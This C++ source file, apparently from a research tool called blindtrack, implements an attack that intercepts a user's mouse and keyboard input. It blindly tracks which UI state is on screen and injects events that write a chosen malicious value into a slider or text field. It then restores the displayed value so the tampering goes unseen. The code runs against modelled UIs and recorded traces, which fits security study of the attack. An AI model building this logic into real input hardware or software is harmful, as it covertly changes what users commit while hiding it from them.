#include "blindtrack/attack.hpp"

#include <algorithm>
#include <cctype>
#include <charconv>
#include <cmath>
#include <cstdlib>

namespace blindtrack {
namespace {

template <class... Ts>
struct Overloaded : Ts... {
  using Ts::operator()...;
};
template <class... Ts>
Overloaded(Ts...) -> Overloaded<Ts...>;

InputEvent at_zero(EventPayload p) { return InputEvent{0, std::move(p)}; }

bool accepts_char(const UiElement& field, char c) {
  if (!field.value_domain) return true;
  if (std::isdigit(static_cast<unsigned char>(c)) || c == '.') return true;
  return c == '-' && field.value_domain->min < 0.0;
}

std::string key_name(char c) { return c == ' ' ? "<Space>" : std::string(1, c); }

std::string field_text(const UiElement& field, const Value& v) {
  if (field.value_domain && std::holds_alternative<double>(v)) {
    return format_value(v, field.value_domain->decimals());
  }
  return format_value(v);
}

std::vector<std::string> clear_sequence(const UiElement& field) {
  if (!field.clear_keys.empty()) return field.clear_keys;
  return {"<C-a>", "<BS>"};
}

// Offset that centres the region's bounding box in `rect`.
Delta landing(const Region& from, const Rect& rect) {
  if (from.empty()) throw PlanError("empty cursor region");
  if (!fits_within(from, rect)) throw PlanError("region too large");
  const Rect bb = from.bounding_box();
  return {rect.x + (rect.w - bb.w) / 2 - bb.x, rect.y + (rect.h - bb.h) / 2 - bb.y};
}

void append(std::vector<InputEvent>& out, const std::vector<InputEvent>& more) {
  out.insert(out.end(), more.begin(), more.end());
}

void append_click(std::vector<InputEvent>& out) {
  out.push_back(at_zero(ButtonDown{}));
  out.push_back(at_zero(ButtonUp{}));
}

std::optional<Value> parse_value(std::string_view text) {
  if (text.empty()) return std::nullopt;
  const std::string s(text);
  char* end = nullptr;
  const double d = std::strtod(s.c_str(), &end);
  if (end && *end == '\0') return d;
  return s;
}

}  // namespace

std::string_view to_string(AttackVariant v) {
  return v == AttackVariant::kElementDriven ? "element" : "confirmation";
}

std::optional<AttackVariant> attack_variant_from_string(std::string_view text) {
  if (text == "element" || text == "element_driven") return AttackVariant::kElementDriven;
  if (text == "confirmation" || text == "confirmation_driven") {
    return AttackVariant::kConfirmationDriven;
  }
  return std::nullopt;
}

AttackSpec parse_attack_spec(std::string_view text) {
  auto bad = [&](const std::string& why) {
    return std::invalid_argument("attack spec '" + std::string(text) + "': " + why);
  };
  const auto colon = text.find(':');
  if (colon == std::string_view::npos) throw bad("expected '<variant>:<element>=<value>@<ms>'");
  AttackSpec spec;
  const auto variant = attack_variant_from_string(text.substr(0, colon));
  if (!variant) throw bad("unknown variant '" + std::string(text.substr(0, colon)) + "'");
  spec.variant = *variant;
  std::string_view rest = text.substr(colon + 1);
  std::string_view opts;
  if (const auto comma = rest.find(','); comma != std::string_view::npos) {
    opts = rest.substr(comma + 1);
    rest = rest.substr(0, comma);
  }
  const auto eq = rest.find('=');
  if (eq == std::string_view::npos || eq == 0) throw bad("expected '<element>=<value>'");
  spec.target_element = std::string(rest.substr(0, eq));
  std::string_view value = rest.substr(eq + 1);
  if (const auto at = value.rfind('@'); at != std::string_view::npos) {
    const std::string_view ms = value.substr(at + 1);
    const auto [p, ec] = std::from_chars(ms.data(), ms.data() + ms.size(), spec.step_interval_ms);
    if (ec != std::errc() || p != ms.data() + ms.size()) throw bad("bad step interval");
    value = value.substr(0, at);
  }
  const auto v = parse_value(value);
  if (!v) throw bad("missing value");
  spec.malicious_value = *v;
  while (!opts.empty()) {
    const auto comma = opts.find(',');
    const std::string_view opt = opts.substr(0, comma);
    opts = comma == std::string_view::npos ? std::string_view() : opts.substr(comma + 1);
    const auto oeq = opt.find('=');
    if (oeq == std::string_view::npos) throw bad("bad option '" + std::string(opt) + "'");
    const std::string_view key = opt.substr(0, oeq);
    const std::string_view val = opt.substr(oeq + 1);
    if (key == "wait") {
      const auto [p, ec] = std::from_chars(val.data(), val.data() + val.size(), spec.element_wait_ms);
      if (ec != std::errc() || p != val.data() + val.size()) throw bad("bad wait");
    } else if (key == "state") {
      spec.target_state = std::string(val);
    } else {
      throw bad("unknown option '" + std::string(key) + "'");
    }
  }
  return spec;
}

std::string format_attack_spec(const AttackSpec& spec) {
  std::string out = std::string(to_string(spec.variant)) + ":" + spec.target_element + "=" +
                    format_value(spec.malicious_value) + "@" +
                    std::to_string(spec.step_interval_ms);
  if (spec.element_wait_ms != 1000) out += ",wait=" + std::to_string(spec.element_wait_ms);
  if (!spec.target_state.empty()) out += ",state=" + spec.target_state;
  return out;
}

void check_attack_spec(const UiModel& model, const AttackSpec& spec) {
  auto bad = [](const std::string& why) { return std::invalid_argument("attack: " + why); };
  if (spec.step_interval_ms <= 0) throw bad("step interval must be positive");
  if (spec.element_wait_ms < 0) throw bad("element wait must not be negative");
  std::string state_id = spec.target_state;
  if (state_id.empty()) {
    if (model.target_states.empty()) throw bad("model has no target state");
    state_id = model.target_states.front();
  }
  const auto s = model.state_index(state_id);
  if (!s) throw bad("unknown state '" + state_id + "'");
  const UiElement* e = model.state(*s).find(spec.target_element);
  if (!e) throw bad("no element '" + spec.target_element + "' in state '" + state_id + "'");
  if (!e->is_target) throw bad("element '" + e->id + "' is not a target element");
  if (e->kind == ElementKind::kSlider) {
    const auto v = numeric_value(spec.malicious_value);
    if (!v) throw bad("slider value must be numeric");
    const ValueDomain& d = *e->value_domain;
    if (*v < d.min - 1e-9 || *v > d.max + 1e-9) throw bad("value outside the slider domain");
    if (!values_equal(domain_value(d, domain_index(d, *v)), *v)) {
      throw bad("value is not on the slider step grid");
    }
  } else if (e->kind == ElementKind::kTextField) {
    for (char c : field_text(*e, spec.malicious_value)) {
      if (!accepts_char(*e, c)) throw bad(std::string("field rejects character '") + c + "'");
    }
  } else {
    throw bad("target element must be a slider or a text field");
  }
  if (spec.variant == AttackVariant::kConfirmationDriven) {
    const auto& els = model.state(*s).elements;
    if (std::none_of(els.begin(), els.end(), [](const UiElement& x) { return x.is_confirmation; })) {
      throw bad("state '" + state_id + "' has no confirmation element");
    }
  }
}

std::string format_decision(const InterposerDecision& d) {
  return std::visit(Overloaded{
                        [](const Pass& p) { return "pass " + format_event(p.event); },
                        [](const Block& b) { return "block " + format_event(b.event); },
                        [](const Delay& dl) {
                          return "delay " + std::to_string(dl.ms) + " " + format_event(dl.event);
                        },
                        [](const Inject& in) {
                          std::string out = (in.replay ? "replay " : "inject ") +
                                            std::to_string(in.events.size()) + " |";
                          for (std::size_t i = 0; i < in.events.size(); ++i) {
                            out += i == 0 ? " " : " ; ";
                            out += format_event(in.events[i]);
                          }
                          return out;
                        },
                    },
                    d);
}

std::vector<InputEvent> applied_events(const InterposerDecision& d) {
  return std::visit(Overloaded{
                        [](const Pass& p) { return std::vector<InputEvent>{p.event}; },
                        [](const Block&) { return std::vector<InputEvent>{}; },
                        [](const Delay& dl) {
                          InputEvent e = dl.event;
                          e.t_ms += dl.ms;
                          return std::vector<InputEvent>{e};
                        },
                        [](const Inject& in) { return in.events; },
                    },
                    d);
}

std::vector<InputEvent> move_events(Delta d) {
  constexpr int kMax = 127;
  const int n = std::max((std::abs(d.dx) + kMax - 1) / kMax, (std::abs(d.dy) + kMax - 1) / kMax);
  std::vector<InputEvent> out;
  int px = 0;
  int py = 0;
  for (int i = 1; i <= n; ++i) {
    const int x = static_cast<int>(std::lround(static_cast<double>(d.dx) * i / n));
    const int y = static_cast<int>(std::lround(static_cast<double>(d.dy) * i / n));
    out.push_back(at_zero(MouseMove{{x - px, y - py}}));
    px = x;
    py = y;
  }
  return out;
}

std::vector<InputEvent> corner_sweep(const Rect& screen) {
  return move_events({-screen.w, -screen.h});
}

std::vector<InputEvent> value_injection_plan(const UiModel& model, StateIndex state,
                                             const UiElement& element,
                                             const Region& from_region, const Value& value) {
  if (!model.state(state).find(element.id)) {
    throw PlanError("element '" + element.id + "' is not in state '" + model.state(state).id + "'");
  }
  const Delta d = landing(from_region, element.rect);
  std::vector<InputEvent> out = move_events(d);
  switch (element.kind) {
    case ElementKind::kSlider: {
      const auto v = numeric_value(value);
      if (!v) throw PlanError("slider value must be numeric");
      const long want = domain_index(*element.value_domain, *v);
      const Rect bb = from_region.bounding_box();
      const int a = bb.x + d.dx;
      const int b = a + bb.w - 1;
      std::optional<int> shift;
      for (int mag = 0; mag < model.screen_width && !shift; ++mag) {
        for (int s : {mag, -mag}) {
          if (a + s < 0 || b + s >= model.screen_width) continue;
          if (slider_index_at(element, a + s) == want && slider_index_at(element, b + s) == want) {
            shift = s;
            break;
          }
        }
      }
      if (!shift) throw PlanError("slider value not reachable from this region");
      out.push_back(at_zero(ButtonDown{}));
      append(out, move_events({*shift, 0}));
      out.push_back(at_zero(ButtonUp{}));
      append(out, move_events({-d.dx - *shift, -d.dy}));
      return out;
    }
    case ElementKind::kTextField: {
      append_click(out);
      for (const std::string& k : clear_sequence(element)) out.push_back(at_zero(Key{k}));
      for (char c : field_text(element, value)) {
        if (!accepts_char(element, c)) throw PlanError(std::string("field rejects '") + c + "'");
        out.push_back(at_zero(Key{key_name(c)}));
      }
      append(out, move_events(-d));
      return out;
    }
    case ElementKind::kButton:
    case ElementKind::kMultipleChoice:
      append_click(out);
      append(out, move_events(-d));
      return out;
  }
  return out;
}

std::vector<InputEvent> slider_restore_plan(const UiModel& model, const UiElement& slider,
                                            const Region& from_region, Delta since_release) {
  if (slider.kind != ElementKind::kSlider) throw PlanError("not a slider");
  const Delta d = landing(from_region, slider.rect);
  const Rect bb = from_region.bounding_box();
  if (bb.x - since_release.dx < 0 || bb.right() - 1 - since_release.dx >= model.screen_width) {
    throw PlanError("release column off screen");
  }
  std::vector<InputEvent> out = move_events(d);
  out.push_back(at_zero(ButtonDown{}));
  append(out, move_events({-since_release.dx - d.dx, 0}));
  out.push_back(at_zero(ButtonUp{}));
  append(out, move_events({since_release.dx, -d.dy}));
  return out;
}

AttackSession::AttackSession(std::shared_ptr<const UiModel> model, AttackSpec spec,
                             EstimatorConfig cfg)
    : model_(std::move(model)),
      spec_(std::move(spec)),
      est_([&] {
        if (cfg.input_mode != InputMode::kRelativeMouse) {
          throw std::invalid_argument("attack session needs relative mouse input");
        }
        check_attack_spec(*model_, spec_);
        return Estimator::init_known(model_, model_->start_index(), std::nullopt, cfg);
      }()) {
  if (spec_.target_state.empty()) spec_.target_state = model_->target_states.front();
  target_state_ = model_->require_state(spec_.target_state);
  target_ = model_->state(target_state_).find(spec_.target_element);
  for (const UiElement& e : model_->state(target_state_).elements) {
    if (e.is_confirmation) {
      confirm_ = &e;
      break;
    }
  }
}

void AttackSession::record(std::vector<InterposerDecision>& out, InterposerDecision d) {
  log_.push_back(format_decision(d));
  out.push_back(std::move(d));
}

bool AttackSession::certain() const {
  return est_.state_probability(target_state_) >= est_.config().target_prob_threshold;
}

std::optional<Rect> AttackSession::target_bbox() const {
  std::optional<Rect> box;
  for (const Tracker& t : est_.trackers()) {
    if (t.state != target_state_ || t.region.empty()) continue;
    const Rect b = t.region.bounding_box();
    if (!box) {
      box = b;
      continue;
    }
    const int x0 = std::min(box->x, b.x);
    const int y0 = std::min(box->y, b.y);
    const int x1 = std::max(box->right(), b.right());
    const int y1 = std::max(box->bottom(), b.bottom());
    box = Rect{x0, y0, x1 - x0, y1 - y0};
  }
  return box;
}

AttackSession::Tri AttackSession::press_on(const Region& r, const Rect& rect) const {
  if (!certain() || r.empty()) return Tri::kMaybe;
  if (r.within(rect)) return Tri::kYes;
  return r.intersects(rect) ? Tri::kMaybe : Tri::kNo;
}

void AttackSession::shadow_key(const std::string& k) {
  Shadow& s = shadow_;
  if (k == "<C-a>") {
    s.select_all = true;
    s.select_known = true;
    return;
  }
  char c = 0;
  if (k == "<BS>") {
    if (!s.select_known) {
      s.known = false;
    } else if (s.select_all) {
      s.text.clear();
      s.known = true;
    } else if (!s.text.empty()) {
      s.text.pop_back();
    }
    s.select_all = false;
    s.select_known = true;
    return;
  }
  if (k.size() == 1) {
    c = k[0];
  } else if (k == "<Space>") {
    c = ' ';
  } else {
    return;
  }
  if (!accepts_char(*target_, c)) return;
  if (!s.select_known) {
    s.known = false;
  } else if (s.select_all) {
    s.text.clear();
    s.known = true;
  }
  s.select_all = false;
  s.select_known = true;
  s.text.push_back(c);
}

void AttackSession::feed(const InputEvent& e, bool user) {
  const bool slider_target = target_->kind == ElementKind::kSlider;
  Region release_region;
  if (user) {
    if (const auto* mv = std::get_if<MouseMove>(&e.payload); mv && anchor_.valid) {
      // A move that may hit a screen edge loses the exact displacement.
      const auto box = target_bbox();
      if (!box || !certain() || box->x + mv->d.dx < 0 || box->y + mv->d.dy < 0 ||
          box->right() - 1 + mv->d.dx >= model_->screen_width ||
          box->bottom() - 1 + mv->d.dy >= model_->screen_height) {
        anchor_.valid = false;
      } else {
        anchor_.since = anchor_.since + mv->d;
      }
    } else if (std::holds_alternative<ButtonDown>(e.payload)) {
      const Region r = est_.state_region(target_state_);
      press_target_ = press_on(r, target_->rect);
      press_slider_ = Tri::kNo;
      press_other_slider_ = false;
      for (const UiElement& el : model_->state(target_state_).elements) {
        if (el.kind != ElementKind::kSlider) continue;
        const Tri t = press_on(r, el.rect);
        if (&el != target_ && t != Tri::kNo) press_other_slider_ = true;
        if (t == Tri::kYes) {
          press_slider_ = Tri::kYes;
          break;
        }
        if (t == Tri::kMaybe) press_slider_ = Tri::kMaybe;
      }
    } else if (std::holds_alternative<ButtonUp>(e.payload)) {
      release_region = est_.state_region(target_state_);
    }
  }

  const Observation obs = est_.observe(e);
  if (!user) return;

  if (std::holds_alternative<Boot>(e.payload)) {
    anchor_ = {};
    shadow_ = {};
    focus_ = Focus::kElsewhere;
    fire_at_.reset();
    return;
  }
  if (std::holds_alternative<ButtonUp>(e.payload)) {
    if (slider_target) {
      const bool dragged = obs.evidence && obs.evidence->kind == EvidenceKind::kSliderDrag;
      if (press_target_ == Tri::kYes) {
        anchor_ = {true, {0, 0}};
      } else if (press_target_ == Tri::kMaybe) {
        anchor_.valid = false;
      }
      // Arming only needs a likely edit: the strike overwrites the value anyway.
      if (spec_.variant == AttackVariant::kElementDriven &&
          (press_target_ == Tri::kYes || (press_target_ == Tri::kMaybe && dragged && certain() && !press_other_slider_))) {
        fire_at_ = e.t_ms + spec_.element_wait_ms;
      }
    } else if (obs.click) {
      if (press_slider_ == Tri::kMaybe) {
        focus_ = Focus::kUnknown;
      } else if (press_slider_ == Tri::kNo) {
        const Tri on_field = press_on(release_region, target_->rect);
        if (on_field == Tri::kYes) {
          if (focus_ != Focus::kTarget) {
            shadow_.select_all = false;
            shadow_.select_known = focus_ == Focus::kElsewhere;
          }
          focus_ = Focus::kTarget;
        } else if (on_field == Tri::kNo) {
          focus_ = Focus::kElsewhere;
        } else {
          focus_ = Focus::kUnknown;
        }
      }
    }
    return;
  }
  if (const auto* k = std::get_if<Key>(&e.payload); k && !slider_target) {
    if (focus_ == Focus::kTarget) {
      shadow_key(k->key);
    } else if (focus_ == Focus::kUnknown) {
      shadow_.known = false;
      shadow_.select_known = false;
    }
    if (spec_.variant == AttackVariant::kElementDriven && focus_ != Focus::kElsewhere && certain()) {
      fire_at_ = e.t_ms + spec_.element_wait_ms;
    }
  }
}

void AttackSession::deliver(std::vector<InterposerDecision>& out, const InputEvent& e) {
  if (e.t_ms < busy_until_) {
    Delay d{e, busy_until_ - e.t_ms};
    InputEvent shifted = e;
    shifted.t_ms = busy_until_;
    record(out, std::move(d));
    feed(shifted, true);
    return;
  }
  record(out, Pass{e});
  busy_until_ = e.t_ms;
  feed(e, true);
}

void AttackSession::replay_held(std::vector<InterposerDecision>& out, std::int64_t at) {
  InputEvent down = *held_down_;
  held_down_.reset();
  held_plan_.clear();
  down.t_ms = std::max(at, busy_until_);
  busy_until_ = down.t_ms;
  record(out, Inject{{down}, true});
  feed(down, true);
}

void AttackSession::launch(std::vector<InterposerDecision>& out, std::vector<InputEvent> plan,
                           std::int64_t at) {
  std::int64_t t = std::max(at, busy_until_);
  for (InputEvent& e : plan) {
    e.t_ms = t;
    t += spec_.step_interval_ms;
  }
  busy_until_ = plan.empty() ? busy_until_ : plan.back().t_ms;
  injected_ += plan.size();
  launched_ = true;
  fire_at_.reset();
  for (const InputEvent& e : plan) feed(e, false);
  record(out, Inject{std::move(plan), false});
}

std::optional<std::vector<InputEvent>> AttackSession::restore_plan(const Region& from) const {
  if (target_->kind == ElementKind::kSlider) {
    if (!anchor_.valid) return std::nullopt;
    return slider_restore_plan(*model_, *target_, from, anchor_.since);
  }
  if (!shadow_.known) return std::nullopt;
  return value_injection_plan(*model_, target_state_, *target_, from, Value{shadow_.text});
}

std::optional<std::vector<InputEvent>> AttackSession::confirmation_plan() const {
  if (!confirm_ || !est_.attack_ready(target_state_)) return std::nullopt;
  const Region r = est_.state_region(target_state_);
  if (!r.within(confirm_->rect)) return std::nullopt;
  try {
    auto restore = restore_plan(r);
    if (!restore) return std::nullopt;
    std::vector<InputEvent> plan =
        value_injection_plan(*model_, target_state_, *target_, r, spec_.malicious_value);
    append_click(plan);
    append(plan, *restore);
    return plan;
  } catch (const PlanError&) {
    return std::nullopt;
  }
}

void AttackSession::try_element_strike(std::vector<InterposerDecision>& out, std::int64_t at) {
  fire_at_.reset();
  if (!est_.attack_ready(target_state_)) return;
  try {
    auto plan = value_injection_plan(*model_, target_state_, *target_,
                                     est_.state_region(target_state_), spec_.malicious_value);
    launch(out, std::move(plan), at);
  } catch (const PlanError&) {
  }
}

std::vector<InterposerDecision> AttackSession::interpose(const InputEvent& e) {
  if (e.is_absolute()) throw std::invalid_argument("attack session needs relative mouse input");
  std::vector<InterposerDecision> out;
  if (launched_) {
    deliver(out, e);
    return out;
  }

  if (held_down_) {
    if (std::holds_alternative<ButtonUp>(e.payload)) {
      record(out, Block{e});
      std::vector<InputEvent> plan = std::move(held_plan_);
      held_down_.reset();
      launch(out, std::move(plan), e.t_ms);
      return out;
    }
    replay_held(out, e.t_ms);
  }

  if (fire_at_) {
    const bool text_edit = target_->kind == ElementKind::kTextField &&
                           std::holds_alternative<Key>(e.payload) && focus_ != Focus::kElsewhere;
    const bool action = std::holds_alternative<ButtonDown>(e.payload) ||
                        (std::holds_alternative<Key>(e.payload) && !text_edit);
    if (e.t_ms >= *fire_at_) {
      try_element_strike(out, *fire_at_);
    } else if (action) {
      // The user acts before the wait is over: strike first, hold the action.
      try_element_strike(out, e.t_ms);
    }
  }

  if (!launched_ && spec_.variant == AttackVariant::kConfirmationDriven &&
      std::holds_alternative<ButtonDown>(e.payload) && e.t_ms >= busy_until_) {
    if (auto plan = confirmation_plan()) {
      held_down_ = e;
      held_plan_ = std::move(*plan);
      record(out, Block{e});
      return out;
    }
  }

  deliver(out, e);
  return out;
}

std::vector<InterposerDecision> AttackSession::finish() {
  std::vector<InterposerDecision> out;
  if (held_down_) replay_held(out, held_down_->t_ms);
  if (!launched_ && fire_at_) try_element_strike(out, std::max(*fire_at_, busy_until_));
  return out;
}

AttackRun::AttackRun(std::shared_ptr<const UiModel> model, AttackSpec spec,
                     std::optional<TerminalState> boot, EstimatorConfig cfg)
    : model_(model),
      session_(model, std::move(spec), cfg),
      terminal_(boot ? *boot : boot_state(*model)),
      baseline_(terminal_),
      baseline_before_(terminal_) {}

const Value* AttackRun::shown() const {
  const auto it = terminal_.values.find(session_.spec().target_element);
  return it == terminal_.values.end() ? nullptr : &it->second;
}

void AttackRun::take(const std::vector<InterposerDecision>& ds, bool consumed) {
  const std::string& id = session_.spec().target_element;
  for (const InterposerDecision& d : ds) {
    const auto* in = std::get_if<Inject>(&d);
    // Injected events run before the current user event takes effect.
    const TerminalState& own = in || !consumed ? baseline_before_ : baseline_;
    const auto want = own.values.find(id);
    const Point before = terminal_.cursor;
    for (const InputEvent& e : applied_events(d)) {
      if (last_t_ && last_differs_) visible_ms_ += e.t_ms - *last_t_;
      terminal_ = apply_event(*model_, std::move(terminal_), e);
      const Value* v = shown();
      const bool have_want = want != own.values.end();
      last_differs_ = (v == nullptr) != !have_want || (v && have_want && !values_equal(*v, want->second));
      last_t_ = e.t_ms;
    }
    if (in && !in->replay && terminal_.cursor != before) net_zero_ = false;
  }
}

std::vector<InterposerDecision> AttackRun::push(const InputEvent& e) {
  baseline_before_ = baseline_;
  baseline_ = apply_event(*model_, std::move(baseline_), e);
  auto ds = session_.interpose(e);
  take(ds, true);
  return ds;
}

std::vector<InterposerDecision> AttackRun::finish() {
  baseline_before_ = baseline_;
  auto ds = session_.finish();
  take(ds, true);
  return ds;
}

AttackOutcome AttackRun::outcome() const {
  AttackOutcome out;
  const std::string& id = session_.spec().target_element;
  out.launched = session_.launched();
  out.injected_event_count = session_.injected_event_count();
  const auto c = terminal_.committed.find(id);
  out.success = out.launched && c != terminal_.committed.end() &&
                values_equal(c->second, session_.spec().malicious_value);
  const auto mine = terminal_.values.find(id);
  const auto theirs = baseline_.values.find(id);
  out.restored = mine != terminal_.values.end() && theirs != baseline_.values.end() &&
                 values_equal(mine->second, theirs->second);
  out.net_zero = net_zero_;
  out.visible_ms = visible_ms_;
  out.decision_log = session_.decision_log();
  return out;
}

AttackOutcome run_attack(const std::shared_ptr<const UiModel>& model, const Trace& trace,
                         const AttackSpec& spec, std::optional<TerminalState> boot,
                         EstimatorConfig cfg) {
  cfg.input_mode = trace.meta.mode;
  AttackRun run(model, spec, std::move(boot), cfg);
  for (const InputEvent& e : trace.events) run.push(e);
  run.finish();
  return run.outcome();
}

}  // namespace blindtrack
